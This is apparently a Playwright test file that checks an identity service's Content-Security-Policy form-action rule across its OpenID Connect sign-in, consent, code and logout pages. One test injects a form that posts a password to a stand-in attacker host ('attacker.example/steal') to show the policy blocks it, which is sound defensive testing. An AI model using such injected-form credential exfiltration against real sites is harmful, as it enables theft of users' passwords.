"""The Content-Security-Policy ``form-action`` directive, in Chromium with the policy on.

Other browser tests bypass the policy (to inject axe-core). Here it is enforced: a form
injected into a page cannot send anything to another site, and every way through the
OpenID Connect pages still ends back at the service. Chromium applies ``form-action`` to
the redirects that follow a form submission too, so the sign-in, code and consent forms
lead to the service's registered redirect address only because the policy of those
pages names it (idservice/oauth/form_targets.py).
"""

from __future__ import annotations

from collections.abc import Iterator
from urllib.parse import parse_qs, urlsplit

import pyotp
import pytest
from flask import Flask
from playwright.sync_api import Browser, Page, Route, expect

from idservice.db import db_session
from idservice.models.residents import Resident
from idservice.oauth import consents, dao
from tests.browser.pages import authorize_path, relying_party
from tests.browser.site import TOTP_SECRET, Site, Someone
from tests.conftest import LiveServer
from tests.factories import DEFAULT_PASSWORD


@pytest.fixture
def strict_page(browser: Browser, live_server: LiveServer) -> Iterator[Page]:
    context = browser.new_context(base_url=live_server.url, bypass_csp=False)
    context.set_default_timeout(10_000)
    page = context.new_page()
    yield page
    context.close()


def capture(page: Page, pattern: str) -> list[str]:
    seen: list[str] = []

    def record(route: Route) -> None:
        seen.append(route.request.url)
        route.fulfill(status=200, content_type="text/html", body="<title>RP</title>back")

    page.route(pattern, record)
    return seen


def query(url: str) -> dict[str, list[str]]:
    return parse_qs(urlsplit(url).query)


@pytest.mark.browser
def test_an_injected_form_cannot_send_to_another_site(strict_page: Page, live_app: Flask) -> None:
    page = strict_page
    stolen = capture(page, "https://attacker.example/**")
    page.goto("/sign-in")
    page.evaluate(
        """() => {
            const form = document.createElement("form");
            form.method = "post";
            form.action = "https://attacker.example/steal";
            const field = document.createElement("input");
            field.name = "password";
            field.value = "secret";
            form.appendChild(field);
            document.body.appendChild(form);
            form.submit();
        }"""
    )
    page.wait_for_timeout(1500)
    assert stolen == []
    assert page.url.endswith("/sign-in")


@pytest.mark.browser
def test_sign_in_and_consent_return_to_the_service(strict_page: Page, live_app: Flask) -> None:
    page = strict_page
    site = Site(live_app, page)
    client_id = relying_party(site)
    resident = site.resident()
    back = capture(page, "https://leisure.example/**")
    page.goto(authorize_path(client_id))
    expect(page.locator("h1")).to_have_text("Sign in to your Kent account")
    site.fill({"email": resident.email, "password": DEFAULT_PASSWORD})
    site.submit("Sign in")
    expect(page.locator("h1")).to_have_text("Kent Leisure wants to use your Kent account")
    page.get_by_role("button", name="Allow").click()
    page.wait_for_url("https://leisure.example/**")
    assert "code" in query(back[-1])

    # Consent is remembered: after a forced sign-in, the sign-in form's own redirects
    # lead straight back to the service.
    page.goto(authorize_path(client_id).replace("nonce=n", "nonce=n2") + "&prompt=login")
    expect(page.locator("h1")).to_have_text("Sign in to your Kent account")
    site.fill({"email": resident.email, "password": DEFAULT_PASSWORD})
    page.get_by_role("button", name="Sign in", exact=True).click()
    page.wait_for_url("https://leisure.example/**")
    assert len(back) == 2 and "code" in query(back[-1])


def remember_consent(site: Site, resident: Someone, client_id: str) -> None:
    with site.app.app_context():
        try:
            person = db_session.get(Resident, resident.id)
            client = dao.dao_get_client(client_id)
            assert person is not None and client is not None
            consents.grant_consent(person, client, "openid profile email")
            db_session.commit()
        finally:
            db_session.remove()


@pytest.mark.browser
def test_the_code_page_returns_to_the_service(strict_page: Page, live_app: Flask) -> None:
    page = strict_page
    site = Site(live_app, page)
    client_id = relying_party(site)
    resident = site.resident(totp=True)
    remember_consent(site, resident, client_id)
    back = capture(page, "https://leisure.example/**")
    page.goto(authorize_path(client_id))
    site.fill({"email": resident.email, "password": DEFAULT_PASSWORD})
    site.submit("Sign in")
    expect(page.locator("h1")).to_contain_text("authenticator app")
    site.fill({"code": pyotp.TOTP(TOTP_SECRET).now()})
    page.get_by_role("button", name="Continue").click()
    page.wait_for_url("https://leisure.example/**")
    assert "code" in query(back[-1])


@pytest.mark.browser
def test_cancel_on_the_consent_page_returns_to_the_service(
    strict_page: Page, live_app: Flask
) -> None:
    page = strict_page
    site = Site(live_app, page)
    client_id = relying_party(site)
    site.signed_in(site.resident())
    back = capture(page, "https://leisure.example/**")
    page.goto(authorize_path(client_id))
    page.get_by_role("button", name="Cancel").click()
    page.wait_for_url("https://leisure.example/**")
    assert query(back[-1])["error"] == ["access_denied"]


@pytest.mark.browser
def test_logout_confirmation_signs_out_under_the_policy(strict_page: Page, live_app: Flask) -> None:
    page = strict_page
    site = Site(live_app, page)
    site.signed_in(site.resident())
    page.goto("/oauth/logout")
    expect(page.locator("h1")).to_have_text("Do you want to sign out of your Kent account?")
    page.locator("main").get_by_role("button", name="Sign out").click()
    expect(page.locator("h1")).to_have_text("You have signed out")
